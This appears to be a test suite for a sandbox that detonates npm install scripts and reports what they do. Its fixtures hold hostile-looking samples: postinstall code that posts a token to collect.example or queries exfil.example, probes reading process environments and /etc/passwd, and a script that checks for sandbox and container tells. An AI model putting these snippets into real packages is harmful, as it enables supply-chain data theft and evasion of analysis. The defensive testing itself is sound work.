import { existsSync, statSync } from 'node:fs'
import { availableParallelism, userInfo } from 'node:os'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import type { GatewayRequest } from '../../src/sandbox/sandbox.ts'
import type { Boxed, BoxResult, BoxRunner } from './boxed.ts'
import { clientContract } from './client-contract.ts'

/** One engine, and in what it differs from the others by its nature. */
export interface EngineUnderTest {
  readonly name: string
  open(): Promise<BoxRunner>
  /** What a watch left behind on this machine: nothing, once it has ended. */
  leftovers(): Promise<unknown> | unknown
  readonly nothingLeft: unknown
  /** What no command line of a process that a script can see says. */
  readonly hidden: RegExp
  /** Nothing can ever be gained back: the bounding set is empty too. */
  readonly emptiesBoundingSet: boolean
  /** Paths of the host that a script must not find. */
  readonly missing: readonly string[]
  /** What a container cannot hide. */
  readonly containerTells: readonly string[]
}

const js = (name: string, code: string, more: Partial<Boxed> = {}): Boxed => ({
  name,
  scripts: { postinstall: 'node setup.js' },
  files: { 'setup.js': code },
  ...more,
})
const told = ({ findings }: BoxResult) =>
  findings
    .filter(({ severity }) => severity !== 'info')
    .map(({ code, package: name, script, host, address }) =>
      [code, name, script, host ?? address ?? null].join(' '),
    )
    .sort()

/** A question for a name, by hand, to whichever resolver. */
const QUERY = `
const query = (name) => Buffer.concat([Buffer.from([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]),
  ...name.split('.').flatMap((label) => [Buffer.from([label.length]), Buffer.from(label)]), Buffer.from([0, 0, 1, 0, 1])])
`

interface Tells {
  /** Texts that were searched. */
  readonly looked: number
  /** Where a word of ours stands. */
  readonly words: readonly string[]
  readonly facts: object
  /** Files that only containers have. */
  readonly container: readonly string[]
}

/** What public checks for sandboxes look at, and a search for our own words in all that a script can read. */
const TELLS = `
const fs = require('fs'), os = require('os'), path = require('path')
const attempt = (act) => { try { return act() } catch { return '' } }
const read = (file) => attempt(() => fs.readFileSync(file, 'latin1'))
const WORDS = /safe-npm|safe_npm|dsca|sinkhole|decoy|canary|honey/i
const SKIPPED = new Set(['/proc', '/sys', '/usr', '/dev', '/boot', '/etc/alternatives', process.cwd()])
const texts = [['env', JSON.stringify(process.env)], ['mounts', read('/proc/self/mountinfo')], ['host', os.hostname()]]
for (const pid of fs.readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name)))
  for (const file of ['cmdline', 'comm', 'environ']) texts.push(['/proc/' + pid + '/' + file, pid == process.pid ? '' : read('/proc/' + pid + '/' + file)])
const walk = (folder, depth) => {
  for (const entry of attempt(() => fs.readdirSync(folder, { withFileTypes: true })) || []) {
    const file = path.join(folder, entry.name)
    if (SKIPPED.has(file) || depth > 6) continue
    texts.push([file, file])
    if (entry.isDirectory()) walk(file, depth + 1)
    else if (entry.isFile()) texts.push([file, attempt(() => fs.statSync(file).size) < 300000 ? read(file) : ''])
  }
}
walk('/', 0)
const onPath = (tool) => process.env.PATH.split(':').some((folder) => fs.existsSync(path.join(folder, tool)))
console.log(JSON.stringify({
  looked: texts.length,
  words: texts.filter(([, text]) => WORDS.test(text)).map(([where, text]) => where + ': ' + text.match(WORDS)[0]).slice(0, 20),
  facts: {
    user: os.userInfo().username, home: fs.existsSync(os.homedir()), host: os.hostname(), processors: os.availableParallelism(),
    zone: Intl.DateTimeFormat().resolvedOptions().timeZone, 
    isTraced: !/TracerPid:\\s*0/.test(read('/proc/self/status')), isSuperUser: process.getuid() === 0,
    tools: ['git', 'curl', 'node', 'sh', 'tar'].filter(onPath),
  },
  container: ['/.dockerenv', '/run/.containerenv', '/.singularity.d'].filter((file) => fs.existsSync(file))
    .concat(/docker|kubepods|containerd|lxc/.test(read('/proc/self/cgroup')) ? ['cgroup'] : [])
    .concat(process.env.container ? ['container'] : []),
}))
`
const onPath = (tool: string) =>
  (process.env.PATH ?? '').split(':').some((folder) => existsSync(join(folder, tool)))

const SEEN: readonly (readonly [name: string, Boxed, told: readonly string[], output?: RegExp])[] = [
  [
    'a lookup',
    js('asks', "require('dns').lookup('metrics.example', (e, a) => console.log(a))"),
    ['foreign-lookup asks postinstall metrics.example'],
    /198\.18\./,
  ],
  [
    'an IPv4 literal',
    js('four', "require('net').connect(8443, '192.0.2.10', function () { this.end('hi') })"),
    ['foreign-contact four postinstall 192.0.2.10'],
  ],
  [
    'an IPv6 literal',
    js('six', "require('net').connect(8443, '2001:db8::10', function () { this.end('hi') })"),
    ['foreign-contact six postinstall 2001:db8::10'],
  ],
  [
    'a resolver of its own, over UDP',
    js(
      'udp',
      `${QUERY}
      const socket = require('dgram').createSocket('udp4')
      socket.on('message', (m) => { console.log('answered', m.readUInt16BE(6)); socket.close() })
      socket.send(query('exfil.example'), 53, '198.51.100.53')`,
    ),
    ['foreign-contact udp postinstall 198.51.100.53', 'foreign-lookup udp postinstall exfil.example'],
    /answered 1/,
  ],
  [
    'a resolver of its own, over TCP, byte by byte',
    js(
      'tcp',
      `${QUERY}
      const q = query('exfil.example')
      const socket = require('net').connect(53, '198.51.100.53', async () => {
        socket.setNoDelay(true)
        for (const byte of [q.length >> 8, q.length & 255, ...q]) {
          socket.write(Buffer.from([byte]))
          await new Promise((go) => setTimeout(go, 2))
        }
      })
      socket.on('data', (m) => { console.log('answered', m.readUInt16BE(8)); socket.destroy() })`,
    ),
    ['foreign-contact tcp postinstall 198.51.100.53', 'foreign-lookup tcp postinstall exfil.example'],
    /answered 1/,
  ],
  [
    'a datagram to any port',
    js(
      'datagram',
      "const s = require('dgram').createSocket('udp4'); s.send('hi', 9999, '203.0.113.9', () => s.close())",
    ),
    ['foreign-contact datagram postinstall 203.0.113.9'],
  ],
]

/** The real engine, from source, with packages made by hand; what npm does around it is e2e's to test. */
export function engineContract(engine: EngineUnderTest): void {
  const { name } = engine
  let box: BoxRunner
  beforeAll(async () => {
    box = await engine.open()
  })
  afterAll(() => box[Symbol.asyncDispose]())

  describe(`${name} sees`, () => {
    for (const [name, boxed, expected, output] of SEEN) {
      it(name, async () => {
        const result = await box.run([boxed])
        expect(result.faults).toEqual([])
        expect(told(result)).toEqual(expected)
        if (output) expect(result.outputOf(boxed.name)).toMatch(output)
      })
    }

    it('what is sent over HTTPS, decrypted', async () => {
      const code = `
        const request = require('https').request('https://collect.example/up?x=1', { method: 'POST' }, (answer) => { console.log(answer.statusCode); answer.resume() })
        request.end(JSON.stringify({ token: 'decoy-value' }))`
      const result = await box.run([js('posts', code)])
      expect(told(result)).toContain('foreign-contact posts postinstall collect.example')
      expect(result.requests).toHaveLength(1)
      const [request] = result.requests
      expect(request).toMatchObject({
        scheme: 'https',
        method: 'POST',
        host: 'collect.example',
        path: '/up?x=1',
        run: 1,
      })
      expect(Buffer.from(request?.body ?? []).toString()).toBe('{"token":"decoy-value"}')
      expect(result.outputOf('posts')).toMatch(/200/)
    })

    it.each(['http', 'https'])('a body of many pieces over %s, to its end', async (scheme) => {
      const length = 300_000
      const code = `
        const body = Buffer.alloc(${length}, 'x')
        const request = require('${scheme}').request('${scheme}://large.example/in', { method: 'POST' }, (answer) => {
          console.log('answered', answer.statusCode)
          answer.resume()
        })
        for (let at = 0; at < body.length; at += 9000) request.write(body.subarray(at, at + 9000))
        request.end()`
      const result = await box.run([js('large', code)])
      expect(result.outputOf('large')).toContain('answered 200')
      expect(result.requests).toMatchObject([{ method: 'POST', bodyLength: length }])
    })

    it('what is said over bare TCP, TLS and a WebSocket', async () => {
      const code = `
        const { connect } = require('net')
        const tls = require('tls')
        const crypto = require('crypto')
        connect(443, '203.0.113.9', function () { this.end('HELO ' + '.'.repeat(1000) + ' bare\\n') })
        tls.connect({ host: 'odd.example', port: 443, servername: 'odd.example' }, function () { this.end('HELO inside\\n') })
        const request = require('https').request('https://chat.example/ws', {
          headers: { Connection: 'Upgrade', Upgrade: 'websocket', 'Sec-WebSocket-Version': 13, 'Sec-WebSocket-Key': 'dGhlIHNhbXBsZSBub25jZQ==' },
        })
        request.on('upgrade', (response, socket) => {
          console.log(response.statusCode, response.headers['sec-websocket-accept'])
          const mask = crypto.randomBytes(4)
          const text = Buffer.from('framed '.repeat(40))
          const masked = Buffer.from(text.map((byte, index) => byte ^ mask[index % 4]))
          const frame = Buffer.concat([Buffer.from([0x81, 0x80 | 126, text.length >> 8, text.length & 255]), mask, masked])
          socket.write(frame.subarray(0, 5))
          setTimeout(() => socket.end(frame.subarray(5)), 50)
        })
        request.end()`
      const { messages = [], requests, outputOf } = await box.run([js('talks', code)])
      expect(outputOf('talks')).toContain('101 s3pPLMBiTxaQ9kYGzzhZRbK+xOo=')
      const said = messages.map(({ protocol, secure, serverName, bytes }) => [
        ...[protocol, secure, serverName],
        Buffer.from(bytes).toString().slice(-14),
      ])
      expect(said.sort()).toEqual([
        ['tcp', false, null, '........ bare\n'],
        ['tls', true, 'odd.example', 'HELO inside\n'],
        ['websocket', true, 'chat.example', 'framed framed '],
      ])
      expect(requests).toMatchObject([{ method: 'GET', host: 'chat.example', path: '/ws' }])
    })

    it('a daemon, after its script and in another one of a neighbour', async () => {
      const daemon = `
        const code = "setTimeout(() => require('dns').lookup('late.example', () => {}), 1500)"
        require('child_process').spawn(process.execPath, ['-e', code], { detached: true, stdio: 'ignore', env: {} }).unref()`
      const result = await box.run([js('daemon', daemon), js('sleeps', 'setTimeout(() => {}, 2500)')])
      expect(told(result)).toEqual(['foreign-lookup daemon postinstall late.example'])
    })

    it('ten packages, each for its own', async () => {
      const names = Array.from({ length: 10 }, (_, index) => `p${index}`)
      const result = await box.run(
        names.map((name) => js(name, `require('dns').lookup('${name}.example', () => {})`)),
      )
      expect(told(result)).toEqual(names.map((name) => `foreign-lookup ${name} postinstall ${name}.example`))
    })

    it('what a package does when it is loaded', async () => {
      const files = { 'index.js': "require('dns').lookup('loaded.example', () => {})" }
      const result = await box.run([{ name: 'loads', files, requested: true }])
      expect(told(result)).toEqual(['foreign-lookup loads import loaded.example'])
    })
  })

  describe(`${name} reads`, () => {
    clientContract(() => box)
  })

  describe(`${name} and the registry`, () => {
    const gateway = (asked: GatewayRequest[]) => (request: GatewayRequest) => {
      asked.push(request)
      const isRead = request.method === 'GET'
      return Promise.resolve({
        status: isRead ? 200 : 403,
        headers: { 'content-type': 'application/json' },
        body: (async function* () {
          if (isRead) yield Buffer.from('{"name":"served"}')
        })(),
        outcome: isRead ? ('served' as const) : ('refused' as const),
      })
    }

    it('serves a read through the pipe, and tells it', async () => {
      const asked: GatewayRequest[] = []
      const code = `
        require('https').get('https://registry.example/some-package', { headers: { authorization: 'Bearer x' } }, (answer) => answer.pipe(process.stdout))`
      const result = await box.run([js('reads', code)], { gateway: gateway(asked) })
      expect(result.outputOf('reads')).toContain('{"name":"served"}')
      expect(asked).toEqual([
        { method: 'GET', registry: 'https://registry.example/', path: '/some-package', headers: {} },
      ])
      expect(told(result)).toEqual(['registry-read reads postinstall registry.example'])
    })

    it('refuses to publish, forwards no body, and calls it what it is', async () => {
      const asked: GatewayRequest[] = []
      const code = `
        const request = require('https').request('https://registry.example/mine', { method: 'PUT' }, (answer) => { console.log('status', answer.statusCode); answer.resume() })
        request.end('{}')`
      const result = await box.run([js('publishes', code)], { gateway: gateway(asked) })
      expect(result.outputOf('publishes')).toContain('status 403')
      expect(result.findings.find(({ code: one }) => one === 'registry-write')).toMatchObject({
        package: 'publishes',
        severity: 'malicious',
        host: 'registry.example',
      })
    })
  })

  describe(`${name} shows`, () => {
    const look = async (command: string, options: Parameters<BoxRunner['run']>[1] = {}) =>
      (
        await box.run(
          [
            {
              name: 'looks',
              scripts: { install: `sh look.sh` },
              files: { 'look.sh': `exec 2>&1\n${command}\n` },
            },
          ],
          options,
        )
      ).outputOf('looks')

    it('no descriptor but the three', async () => {
      const output = await look('for p in self $PPID 1; do ls /proc/$p/fd; echo; done')
      const numbers = output.split(/\s+/).filter((word) => /^\d+$/.test(word))
      // 3 is `ls` reading that folder. Node's own (epoll, pipes) have no files; the shell has the script at 10.
      const links = await look('for f in /proc/$PPID/fd/* /proc/1/fd/*; do readlink $f; done')
      expect(numbers.length).toBeGreaterThan(3)
      for (const link of links.split('\n').filter((line) => line.startsWith('/'))) {
        expect(link).toMatch(/^\/(dev\/|proc\/|srv\/boxed-project|newroot|usr\/|$)/)
      }
    })

    it('no variable but those that npm needs', async () => {
      process.env.SECRET_OF_THE_HOST = 'hush-hush'
      try {
        const output = await look('env; cat /proc/*/environ | tr "\\0" "\\n"', {
          env: { AWS_SECRET_ACCESS_KEY: 'hush-hush', npm_config__auth: 'hush-hush' },
        })
        expect(output).not.toContain('hush-hush')
      } finally {
        delete process.env.SECRET_OF_THE_HOST
      }
    })

    it('no process that says what we are', async () => {
      const output = await look('cat /proc/[0-9]*/cmdline | tr "\\0" " "')
      expect(output).not.toMatch(engine.hidden)
    })

    it('no file of the host that is not the system', async () => {
      const missing = [box.root, process.cwd(), ...engine.missing]
      const output = await look(
        `ls ${missing.join(' ')} 2>&1; ls -A /mnt /root /home 2>/dev/null; cat /etc/passwd`,
      )
      expect(output).not.toMatch(/\.tgz|\.pcap|vitest\.config/)
      for (const path of missing) expect(output).toContain(`'${path}': No such file`)
      expect(
        output
          .trim()
          .split('\n')
          .filter((line) => line.includes(':x:')),
      ).toHaveLength(3)
    })

    it('nothing that can be written but its own', async () => {
      const output = await look(
        'for f in / /etc /usr /usr/bin /etc/hosts /var; do [ -w $f ] && touch $f/x 2>/dev/null && echo "wrote $f"; done; echo done',
      )
      expect(output).toMatch(/^done/m)
      expect(output).not.toContain('wrote')
    })

    it('no right that a namespace of its own would not give', async () => {
      const output = await look(
        'grep -E "Cap(Eff|Prm|Bnd|Amb)|NoNewPrivs" /proc/self/status; mount -t tmpfs x /tmp; ip link set lo down; kill -9 1; ip route flush table local; echo end',
      )
      expect(output.match(/Cap\w+:\s0{16}/g)).toHaveLength(engine.emptiesBoundingSet ? 4 : 3)
      expect(output).toMatch(/NoNewPrivs:\s1/)
      expect(output).toMatch(/end/)
      expect(output.match(/permitted|denied|must be superuser/gi)?.length).toBeGreaterThanOrEqual(2)
    })
  })

  describe(`${name} looks like the user's own machine`, () => {
    let seen: Tells
    beforeAll(async () => {
      const { outputOf } = await box.run([js('tells', TELLS)])
      seen = JSON.parse(outputOf('tells')) as Tells
    })

    it('and nothing in it says what we are: variables, mounts, processes, files, names', () => {
      expect(seen.looked).toBeGreaterThan(20)
      expect(seen.words).toEqual([])
    })

    it('with its user, name, processors, time zone and tools', () => {
      expect(seen.facts).toEqual({
        user: userInfo().username,
        home: true,
        host: 'box-host',
        processors: availableParallelism(),
        zone: Intl.DateTimeFormat().resolvedOptions().timeZone,
        isTraced: false,
        isSuperUser: false,
        tools: ['git', 'curl', 'node', 'sh', 'tar'].filter((tool) => onPath(tool)),
      })
    })

    it('and not like a container', () => {
      expect(seen.container).toEqual(engine.containerTells)
    })
  })

  describe(`${name} ends`, () => {
    afterEach(async () => {
      await expect.poll(engine.leftovers, { timeout: 10_000 }).toEqual(engine.nothingLeft)
    })

    const sleeps = js(
      'sleeps',
      "require('child_process').spawn('sleep', ['300'], { detached: true, stdio: 'ignore' }); setTimeout(() => {}, 300_000)",
    )

    it.each([['start'], ['fetch'], ['install']])(
      'at once when it is told to while in %s, and says that it is no proof',
      async (when) => {
        const controller = new AbortController()
        if (when === 'start') controller.abort()
        const began = performance.now()
        const result = await box.run([sleeps], {
          signal: controller.signal,
          onProgress: (phase) => {
            if (phase === when) setTimeout(() => controller.abort(), 100)
          },
        })
        expect(result.faults.map(({ code }) => code)).toContain('sensor-died')
        expect(performance.now() - began).toBeLessThan(15_000)
      },
    )

    it('a script that takes too long, and what it started', async () => {
      const result = await box.run([sleeps], { timeoutMs: 1_000, limits: { lingerMs: 500 } })
      expect(result.runs[0]).toMatchObject({ timedOut: true, endedAt: null })
      expect(result.faults.map(({ code }) => code)).toEqual(['script-timeout'])
    })

    it('a script that stopped itself', async () => {
      const result = await box.run([{ name: 'stops', scripts: { install: 'kill -STOP $$' } }], {
        timeoutMs: 1_000,
      })
      expect(result.faults.map(({ code }) => code)).toEqual(['script-timeout'])
    })

    it('what lives longer than the linger', async () => {
      const code =
        "require('child_process').spawn('sleep', ['300'], { detached: true, stdio: 'ignore' }).unref()"
      const result = await box.run([js('leaves', code)], { limits: { lingerMs: 500 } })
      expect(told(result)).toEqual(['process-survived leaves postinstall '])
    })

    it('what was left running and ends in the time of the next script is not the doing of that one', async () => {
      const code = `
        import os, socket, time
        if os.fork(): os._exit(0)
        os.setsid()
        null = os.open('/dev/null', os.O_RDWR)
        for fd in (0, 1, 2): os.dup2(null, fd)
        while not os.path.exists('/tmp/go'): time.sleep(0.02)
        time.sleep(0.2)
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.sendto(b'x', ('203.0.113.9', 9999))
        os._exit(0)
      `.replace(/^ {8}/gm, '')
      const result = await box.run([
        { name: 'a-leaves', scripts: { install: 'python3 try.py' }, files: { 'try.py': code } },
        { name: 'b-works', scripts: { install: 'touch /tmp/go; sleep 1' } },
      ])
      const contacts = result.findings.filter(({ address }) => address === '203.0.113.9')
      expect(contacts).toHaveLength(1)
      // Named where its socket was found in time, and nobody otherwise.
      expect(['a-leaves', null]).toContain(contacts[0]?.package)
    })

    it('a script that prints without end', async () => {
      const result = await box.run([
        { name: 'prints', scripts: { install: 'head -c 200000000 /dev/zero | tr "\\0" x' } },
      ])
      expect(result.runs[0]?.exitCode).toBe(0)
      expect(result.outputOf('prints').length).toBeLessThanOrEqual(4_096)
    })

    it('more processes than allowed', async () => {
      const command = 'i=0; while [ $i -lt 60 ]; do sleep 300 & i=$((i+1)); done; wait'
      const result = await box.run([{ name: 'forks', scripts: { install: command } }], {
        limits: { processes: 30 },
      })
      expect(result.faults.map(({ code }) => code)).toContain('resource-limit')
    })

    it('more names than are kept', async () => {
      const code =
        "const dns = require('dns'); for (let i = 0; i < 200; i++) dns.resolve4('n' + i + '.example', () => {})"
      const result = await box.run([js('floods', code)], { limits: { events: 50 } })
      expect(result.faults.map(({ code: one }) => one)).toContain('evidence-limit')
      // The capture has all of them.
      expect(result.network.filter(({ kind }) => kind === 'dns-query').length).toBeGreaterThanOrEqual(200)
    })

    it('a capture that grows too large', async () => {
      const code =
        "const s = require('dgram').createSocket('udp4'); let n = 0; const next = () => n++ < 400 ? s.send(Buffer.alloc(8000), 9999, '203.0.113.9', next) : s.close(); next()"
      const result = await box.run([js('sends', code)], { limits: { captureBytes: 200_000 } })
      expect(result.faults.map(({ code: one }) => one)).toContain('evidence-limit')
    })

    it('with a fault when a tarball is not the one that was judged', async () => {
      const other = `sha512-${Buffer.alloc(64, 7).toString('base64')}`
      const result = await box.run([{ name: 'swapped', scripts: { install: 'echo ran' }, integrity: other }])
      expect(result.faults.map(({ code }) => code)).toContain('fetch-failed')
    })

    it('with a capture that only its owner can read', async () => {
      const result = await box.run([{ name: 'fine', scripts: { install: 'echo ran' } }])
      expect(result.outputOf('fine')).toContain('ran')
      expect(statSync(result.capture.path ?? '').mode & 0o777).toBe(0o600)
    })
  })

  describe(`${name} keeps`, () => {
    const python = (code: string) => `python3 -c "${code}"`

    it('a script from the host of its virtual machine, key rings and rings of calls', async () => {
      const code =
        "import socket,ctypes\nl=ctypes.CDLL(None)\ntry: socket.socket(40,1); print('vsock made')\nexcept OSError as e: print('vsock',e.errno)\nprint('keys',l.syscall(250,0,-3,0))\nprint('ring',l.syscall(425,1,0))"
      const result = await box.run([
        {
          name: 'digs',
          scripts: { install: 'sh dig.sh' },
          files: { 'dig.sh': `${python(code)}\nunshare -Ur true 2>&1 || echo no namespace` },
        },
      ])
      expect(result.outputOf('digs')).toMatch(/vsock 97\nkeys -1\nring -1\n[\s\S]*no namespace/)
    })

    it('what is sent from the port of its own markers in sight', async () => {
      const code = `
        const rows = require('fs').readFileSync('/proc/self/net/udp', 'latin1').split('\\n').slice(1)
        const ports = rows.map((row) => row.trim().split(/\\s+/)[1] || '').filter((end) => end.startsWith('0100007F:')).map((end) => parseInt(end.slice(9), 16))
        for (const localPort of ports) require('net').connect({ host: '203.0.113.7', port: 4444, localAddress: '127.0.0.1', localPort }, function () { this.end('hi') }).on('error', () => {})`
      expect(told(await box.run([js('hides', code)]))).toEqual([
        'foreign-contact hides postinstall 203.0.113.7',
      ])
    })
  })
}
